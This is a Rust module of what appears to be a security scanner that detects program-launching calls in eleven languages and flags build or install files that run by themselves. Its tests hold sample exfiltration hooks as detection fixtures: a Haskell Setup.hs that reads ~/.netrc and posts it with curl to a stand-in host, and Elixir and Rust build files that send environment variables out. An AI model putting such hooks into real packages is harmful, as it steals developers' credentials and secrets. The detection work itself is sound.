//! Programs that are started by languages which nobody here reads as code: Haskell, Nim, Swift, Elixir, Julia, Dart, Emacs Lisp,
//! Vim script, Scala, Groovy, Starlark. As in [`super::source`], calls that start a program are found by their names, and
//! the texts in their arguments are the command. Some of these files run by themselves when a package is built, fetched or
//! opened: what they name counts as well.
//!
//! Known uses: `Package.swift` that runs a shell when it is evaluated, hooks of `Setup.hs`, `mix.exs` and `.nimble` files,
//! plug-ins of editors (2024 to 2026). Honest look-alikes: most of these files, which start compilers and `git`.

use base64::Engine as _;

use super::source::{Source, judge_built};
use super::{Command, When};
use crate::analyze::Notes;
use crate::parse::Parsed;

/// How the texts of a call are to be read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum How {
    /// One text is a line for a shell.
    Line,
    /// Each is a word.
    Words,
    /// They are the words of a list that stands before the call.
    Before,
    /// They are words for a program that was named before.
    Behind,
}

/// A language.
struct Tongue {
    endings: &'static [&'static str],
    /// What begins a comment that goes on to the end of its line.
    comment: &'static str,
    quotes: &'static [u8],
    calls: &'static [(&'static str, How)],
    /// Calls that run while something is compiled.
    at_once: &'static [&'static str],
    /// Names of files that run by themselves.
    automatic: &'static [&'static str],
}

#[rustfmt::skip]
const TONGUES: &[Tongue] = &[
    Tongue {
        endings: &[".hs", ".lhs"], comment: "--", quotes: b"\"",
        calls: &[
            ("readProcess ", How::Words), ("readProcessWithExitCode ", How::Words), ("callProcess ", How::Words),
            ("callCommand ", How::Line), ("spawnCommand ", How::Line), ("spawnProcess ", How::Words),
            (" system ", How::Line), ("rawSystem ", How::Words), (" proc ", How::Words), ("(proc ", How::Words),
            (" shell ", How::Line), ("(shell ", How::Line),
        ],
        at_once: &[], automatic: &["Setup.hs", "Setup.lhs"],
    },
    Tongue {
        endings: &[".nim", ".nimble", ".nims"], comment: "#", quotes: b"\"",
        calls: &[
            ("staticExec", How::Line), ("gorgeEx", How::Line), ("gorge", How::Line), (" exec ", How::Line), (" exec(", How::Line),
            ("execShellCmd", How::Line), ("execCmd", How::Line), ("execCmdEx", How::Line), ("execProcess", How::Line),
            ("startProcess", How::Words),
        ],
        at_once: &["staticExec", "gorge", "gorgeEx"], automatic: &[".nimble", "config.nims"],
    },
    Tongue {
        endings: &[".swift"], comment: "//", quotes: b"\"",
        calls: &[(".arguments = ", How::Behind), ("launchedProcess(", How::Words), ("Process.run(", How::Words), (" shellOut(", How::Line)],
        at_once: &[], automatic: &["Package.swift"],
    },
    Tongue {
        endings: &[".ex", ".exs"], comment: "#", quotes: b"\"'",
        calls: &[("System.cmd(", How::Words), ("System.shell(", How::Line), (":os.cmd(", How::Line), ("Port.open(", How::Line)],
        at_once: &[], automatic: &["mix.exs"],
    },
    Tongue {
        endings: &[".jl"], comment: "#", quotes: b"\"`",
        calls: &[("run(", How::Line), ("readchomp(", How::Line), ("pipeline(", How::Line)],
        at_once: &[], automatic: &["build.jl"],
    },
    Tongue {
        endings: &[".dart"], comment: "//", quotes: b"\"'",
        calls: &[("Process.run(", How::Words), ("Process.runSync(", How::Words), ("Process.start(", How::Words)],
        at_once: &[], automatic: &[],
    },
    Tongue {
        endings: &[".el"], comment: ";", quotes: b"\"",
        calls: &[
            ("(shell-command ", How::Line), ("(async-shell-command ", How::Line), ("(shell-command-to-string ", How::Line),
            ("(call-process-shell-command ", How::Line), ("(start-process-shell-command ", How::Line), ("(call-process ", How::Words),
            ("(start-process ", How::Words), ("(make-process ", How::Words),
        ],
        at_once: &[], automatic: &[],
    },
    Tongue {
        endings: &[".vim", "vimrc"], comment: "", quotes: b"\"'",
        calls: &[
            ("system(", How::Line), ("systemlist(", How::Line), ("jobstart(", How::Words), ("job_start(", How::Words),
            ("termopen(", How::Words), ("term_start(", How::Words),
        ],
        at_once: &[], automatic: &[],
    },
    Tongue {
        endings: &[".scala", ".sbt", ".sc"], comment: "//", quotes: b"\"",
        calls: &[(".!", How::Before), (" Process(", How::Words), ("ProcessBuilder(", How::Words), (".exec(", How::Line)],
        at_once: &[], automatic: &[],
    },
    Tongue {
        endings: &[".groovy", "Jenkinsfile"], comment: "//", quotes: b"\"'",
        calls: &[
            (".execute()", How::Before), (" sh(", How::Line), (" sh ", How::Line), (" bat ", How::Line), (" powershell ", How::Line),
            ("ProcessBuilder(", How::Words), (".exec(", How::Line),
        ],
        at_once: &[], automatic: &[],
    },
    Tongue {
        endings: &[".bzl", ".bazel", ".star", "BUILD", "WORKSPACE"], comment: "#", quotes: b"\"'",
        calls: &[(".execute(", How::Words), ("run_shell(", How::Line), (" cmd = ", How::Line)],
        at_once: &[], automatic: &[],
    },
];

/// What must stand in a file of such a language to be read.
pub(super) const WORDS: &[&str] = &[
    "rocess",
    "callCommand",
    "spawnCommand",
    "system",
    "shell",
    "exec",
    "Exec",
    "gorge",
    ".cmd(",
    "Port.open(",
    "run(",
    "jobstart(",
    "job_start(",
    "term",
    " sh ",
    " sh(",
    "bat ",
    ".!",
    "cmd = ",
    // For files that run by themselves.
    "get_env",
    ":httpc",
    "ENV",
];

/// Longest call in bytes, and most calls of one file.
const CALL: usize = 4000;
const MOST: usize = 400;
/// Most bytes between the name of a program and its arguments.
const APART: usize = 600;
/// Shortest text that is taken for an encoded one.
const ENCODED: usize = 16;

fn tongue_of(base: &str) -> Option<&'static Tongue> {
    TONGUES.iter().find(|t| t.endings.iter().any(|e| if e.starts_with('.') { base.ends_with(e) } else { base == *e }))
}

/// Whether a file is of such a language.
pub(super) fn is_one(base: &str) -> bool {
    tongue_of(base).is_some()
}

/// Reads a file.
pub(super) fn read(file: &Parsed<'_>, text: &str, out: &mut Vec<Command>, notes: &mut Notes) {
    let base = file.base_name();
    let Some(tongue) = tongue_of(base) else { return };
    let source = Source::of_words(text, tongue.comment, tongue.quotes);
    let is_automatic = tongue.automatic.iter().any(|a| if a.starts_with('.') { base.ends_with(a) } else { base == *a });
    if is_automatic {
        judge_built(file, &source, notes);
    }
    let mut count = 0;
    for (name, how) in tongue.calls {
        for (at, _) in source.code.match_indices(name) {
            count += 1;
            if count > MOST || super::is_full(out) {
                return;
            }
            // `exec` is no part of another name; a call by itself begins a line.
            let first = name.trim_start().as_bytes().first().copied().unwrap_or_default();
            let before = at.checked_sub(1).and_then(|i| source.code.as_bytes().get(i)).copied().unwrap_or(b' ');
            if first.is_ascii_alphabetic()
                && !name.starts_with(' ')
                && (before.is_ascii_alphanumeric() || before == b'_')
            {
                continue;
            }
            let open = at + name.len();
            let range = extent(&source.code, open);
            let mut words = match how {
                How::Before => words_of(&source, before_call(&source.code, at)),
                How::Words => by_name(&source, range.clone()).unwrap_or_else(|| words_of(&source, range.clone())),
                _ => words_of(&source, range.clone()),
            };
            if words.is_empty() && !matches!(how, How::Before | How::Behind) {
                words = named(&source, range);
            }
            if *how == How::Behind {
                let from = source.code.floor_char_boundary(at.saturating_sub(APART));
                let Some(program) = program_before(&source, from..at) else { continue };
                words.insert(0, program);
            }
            if words.is_empty() {
                continue;
            }
            let is_now = is_automatic || tongue.at_once.contains(name);
            let when = if is_now { When::Automatic } else { When::Build };
            let trigger = format!("{} of a program", name.trim().trim_matches(['(', ')', '.', ' ', '=', '`']));
            // Names of what is made, and of buffers, stand before the program.
            if matches!(*name, "(start-process ") && words.len() > 1 {
                words.remove(0);
            }
            match (how, words.as_slice()) {
                (How::Line, [.., line]) if *name == "(start-process-shell-command " => {
                    out.push(Command::shell(trigger, when, line.clone()));
                }
                (How::Line, [line, ..]) => out.push(Command::shell(trigger, when, line.clone())),
                (_, [line]) if line.contains(' ') => out.push(Command::shell(trigger, when, line.clone())),
                _ => out.push(Command::words(trigger, when, words.iter().map(String::as_str))),
            }
        }
    }
}

/// From a place behind the name of a call to its end: the bracket that closes it, or the end of its line where none is open.
fn extent(code: &str, from: usize) -> std::ops::Range<usize> {
    let mut depth = 0_u32;
    let bytes = code.as_bytes();
    // The bracket of the call itself may still come.
    let mut end = from;
    for (i, b) in bytes.iter().enumerate().skip(from).take(CALL) {
        end = i;
        match b {
            b'(' | b'{' | b'[' => depth += 1,
            b')' | b'}' | b']' if depth == 0 => return from..i,
            b')' | b'}' | b']' => depth -= 1,
            b'\n' if depth == 0 => {
                // What was called with a bracket goes on, and so does what is cut off behind an operator.
                let so_far = code.get(from..i).unwrap_or_default().trim_end();
                let is_open = from.checked_sub(1).and_then(|b| bytes.get(b)) == Some(&b'(')
                    || so_far.ends_with([',', '+', '$', '=']);
                if !is_open {
                    return from..i;
                }
            }
            _ => {}
        }
    }
    from..code.floor_char_boundary(end)
}

/// What a call is made of that stands behind its list or text: `["a", "b"].execute()`.
fn before_call(code: &str, at: usize) -> std::ops::Range<usize> {
    let mut depth = 0_u32;
    let mut start = at;
    for (i, b) in code.as_bytes().iter().enumerate().take(at).rev().take(CALL) {
        match b {
            b')' | b'}' | b']' => depth += 1,
            b'(' | b'{' | b'[' if depth == 0 => break,
            b'(' | b'{' | b'[' => depth -= 1,
            b'\n' | b'=' | b';' if depth == 0 => break,
            _ => {}
        }
        start = i;
    }
    code.ceil_char_boundary(start)..at
}

/// The texts of a range as words. Texts that are joined by operators are one, with names between them as variables; what
/// is decoded on its way is decoded.
fn words_of(source: &Source, range: std::ops::Range<usize>) -> Vec<String> {
    let code = source.code.get(range.clone()).unwrap_or_default();
    let decodes = code.to_ascii_lowercase().contains("base64");
    let mut words = Vec::new();
    let mut from = range.start;
    let mut cut = |from: usize, to: usize| {
        let mut word = String::new();
        let mut last = None;
        let first = source.literals.partition_point(|(at, _)| *at < from);
        for (at, text) in source.literals.iter().skip(first).take_while(|(at, _)| *at < to) {
            // A name between two texts.
            if let Some(last) = last
                && let Some(name) = source.code.get(last..*at).and_then(name_in)
            {
                word.push('$');
                word.push_str(name);
            }
            match decoded(text).filter(|_| decodes) {
                Some(plain) => word.push_str(&plain),
                None => word.push_str(text),
            }
            last = Some(*at);
        }
        if last.is_some() {
            words.push(word);
        }
    };
    for (i, b) in code.bytes().enumerate().map(|(i, b)| (range.start + i, b)) {
        if matches!(b, b',' | b'(' | b')' | b'[' | b']' | b'{' | b'}') {
            cut(from, i);
            from = i + 1;
        }
    }
    cut(from, range.end);
    // Lisp has no commas.
    if words.len() == 1 && !code.contains([',', '.', '+', '&']) {
        let first = source.literals.partition_point(|(at, _)| *at < range.start);
        let all: Vec<String> =
            source.literals.iter().skip(first).take_while(|(at, _)| *at < range.end).map(|(_, t)| t.clone()).collect();
        if all.len() > 1 {
            return all;
        }
    }
    words
}

/// The name in what stands between two texts that are joined.
fn name_in(code: &str) -> Option<&str> {
    let is_part = |c: char| c.is_ascii_alphanumeric() || c == '_';
    code.split(|c: char| !is_part(c)).rfind(|w| w.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
}

/// The words of a call whose program, or whole list of words, goes by a name. Options behind it are no words.
fn by_name(source: &Source, range: std::ops::Range<usize>) -> Option<Vec<String>> {
    let code = source.code.get(range.clone())?;
    let first = code.find(',')?;
    let is_text = source.literals.iter().any(|(at, _)| range.contains(at) && *at < range.start + first);
    if is_text || code.get(..first)?.contains(['(', '[', '{']) {
        return None;
    }
    let mut words = named(source, range.start..range.start + first);
    let end = code.find('{').filter(|open| *open > first).unwrap_or(code.len());
    words.extend(words_of(source, range.start + first..range.start + end));
    (!words.is_empty()).then_some(words)
}

/// The texts that the name in a call was given before it.
fn named(source: &Source, range: std::ops::Range<usize>) -> Vec<String> {
    let code = source.code.get(range.clone()).unwrap_or_default();
    let argument = code.split([',', ')']).next().unwrap_or_default();
    let Some(name) = name_in(argument.trim()) else { return Vec::new() };
    let before = source.code.get(..range.start).unwrap_or_default();
    for mark in [" = ", " := ", "=", " <- ", " "] {
        let set = format!("{name}{mark}");
        if let Some(at) = before.rfind(&set) {
            let start = at + set.len();
            let words = words_of(source, extent(&source.code, start));
            if !words.is_empty() {
                return words;
            }
        }
    }
    Vec::new()
}

/// The program that an object was given before its arguments: `p.executableURL = URL(fileURLWithPath: "/bin/sh")`.
fn program_before(source: &Source, range: std::ops::Range<usize>) -> Option<String> {
    let code = source.code.get(range.clone())?;
    let at = ["executableURL", "launchPath", "fileURLWithPath"].iter().filter_map(|w| code.rfind(w)).max()?;
    let first = source.literals.partition_point(|(place, _)| *place < range.start + at);
    source.literals.get(first).filter(|(place, _)| *place < range.end).map(|(_, text)| text.clone())
}

/// A text of BASE64 that holds readable text.
fn decoded(text: &str) -> Option<String> {
    let is_of_it = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_');
    if text.len() < ENCODED || !text.bytes().all(is_of_it) {
        return None;
    }
    let bytes = base64::engine::general_purpose::STANDARD.decode(text).ok()?;
    let plain = String::from_utf8(bytes).ok()?;
    plain.chars().all(|c| !c.is_control() || c.is_whitespace()).then_some(plain)
}

#[cfg(test)]
mod tests {
    use crate::analyze::commands::tests::{commands, findings};
    use crate::model::FileKind;

    fn of(name: &str, text: &str) -> crate::analyze::commands::tests::Found {
        commands(name, FileKind::OtherSource, text)
    }

    #[test]
    fn each_language_has_its_own_way_to_start_a_program() {
        assert_eq!(
            of(
                "Setup.hs",
                "main = do\n  _ <- readProcess \"git\" [\"-C\", d, \"log\"] \"\"\n  callCommand \"a | b\"\n"
            ),
            ["Automatic readProcess of a program: git -C log ''", "Automatic callCommand of a program: a | b"]
        );
        assert_eq!(
            of("x.nimble", "before install:\n  exec \"a | sh\" # \"no\"\n"),
            ["Automatic exec of a program: a | sh"]
        );
        assert_eq!(
            of("src/x.nim", "const v = staticExec(\"a b\")\nproc f() = discard execShellCmd(\"c d\")\n"),
            ["Automatic staticExec of a program: a b", "Build execShellCmd of a program: c d"]
        );
        assert_eq!(
            of(
                "Package.swift",
                "let t = Process()\nt.executableURL = URL(fileURLWithPath: \"/bin/sh\")\nt.arguments = [\"-c\", \"a | b\"]\n"
            ),
            ["Automatic arguments of a program: /bin/sh -c 'a | b'"]
        );
        assert_eq!(
            of("x.ex", "def f, do: System.cmd(\"sh\", [\"-c\", \"a #{x}\"])\n# System.cmd(\"no\", [])\n"),
            ["Build System.cmd of a program: sh -c 'a #{x}'"]
        );
        assert_eq!(of("x.jl", "f() = run(`git log $x`)\n"), ["Build run of a program: git log $x"]);
        assert_eq!(of("x.dart", "await Process.run('sh', ['-c', 'a']);"), ["Build Process.run of a program: sh -c a"]);
        assert_eq!(
            of(
                "x.el",
                "; (shell-command \"no\")\n(call-process \"sh\" nil nil nil \"-c\" \"a b\")\n(shell-command \"c\")\n"
            ),
            ["Build call-process of a program: sh -c 'a b'", "Build shell-command of a program: c"]
        );
        assert_eq!(
            of(
                "x.vim",
                "\" system('no')\nlet l:c = ['sh', '-c', 'a ' . l:f . ' b']\ncall job_start(l:c, {'in_io': 'null'})\n"
            ),
            ["Build job_start of a program: sh -c 'a $f b'"]
        );
        assert_eq!(of("x.scala", "val a = Seq(\"sh\", \"-c\", \"a b\").!!\n"), ["Build ! of a program: sh -c 'a b'"]);
        assert_eq!(
            of("x.groovy", "def r = ['sh', '-c', \"a\"].execute().text\nsteps { sh 'make x' }\n"),
            ["Build execute of a program: sh -c a", "Build sh of a program: make x"]
        );
        assert_eq!(
            of("x.bzl", "def _f(ctx):\n    ctx.execute([\"bash\", \"-c\", \"a | b\"])\n"),
            ["Build execute of a program: bash -c 'a | b'"]
        );
    }

    #[test]
    fn what_is_decoded_on_its_way_is_decoded() {
        let text = "let t = Process()\nt.launchPath = \"/bin/zsh\"\nt.arguments = [\"-c\", String(data: Data(base64Encoded: \"ZWNobyBoZWxsbyA+IC90bXAveA==\")!, encoding: .utf8)!]\n";
        assert_eq!(of("Package.swift", text), ["Automatic arguments of a program: /bin/zsh -c 'echo hello > /tmp/x'"]);
    }

    #[test]
    fn files_that_run_by_themselves_name_no_secrets() {
        let rules = |name: &str, text: &str| findings(name, FileKind::OtherSource, text);
        let hook = "main = do\n  k <- readFile (h ++ \"/.netrc\")\n  _ <- readProcess \"curl\" [\"-d\", \"@-\", \"https://c.invalid/\"] k\n";
        assert_eq!(rules("Setup.hs", hook), ["source-secrets-and-network"]);
        assert!(rules("Main.hs", hook).is_empty());
        assert!(rules("Setup.hs", "main = do\n  v <- readProcess \"git\" [\"describe\"] \"\"\n").is_empty());
        let mix =
            "e = System.get_env() |> inspect()\n:httpc.request(:post, {'https://c.invalid/', [], 'a', e}, [], [])\n";
        assert_eq!(rules("mix.exs", mix), ["source-environment-and-network"]);
        let build = "fn main() { let all: Vec<String> = env::vars().map(f).collect();\n    Command::new(\"curl\").args([\"--data\", &all.join(\" \"), \"https://c.invalid/\"]).output(); }\n";
        assert!(rules("build.rs", build).contains(&"source-environment-and-network"));
        assert!(
            !rules("build.rs", &build.replace("\"--data\", &all.join(\" \"), ", ""))
                .contains(&"source-environment-and-network")
        );
        let of_one = "e = System.get_env(\"MIX_ENV\")\n:httpc.request(:get, {'https://c.invalid/', []}, [], [])\n";
        assert!(rules("mix.exs", of_one).is_empty());
    }

    #[test]
    fn every_text_ends() {
        for text in [
            "readProcess \"",
            "run(`",
            "system(((((",
            ".execute()",
            "\"\u{e9}\".execute()",
            &"['a'].execute()".repeat(2000),
            &"run(".repeat(5000),
            &"\"".repeat(5001),
        ] {
            for name in ["a.hs", "a.nim", "a.jl", "a.vim", "a.groovy", "a.el", "Package.swift", "mix.exs", "a.bzl"] {
                of(name, text);
            }
        }
    }
}
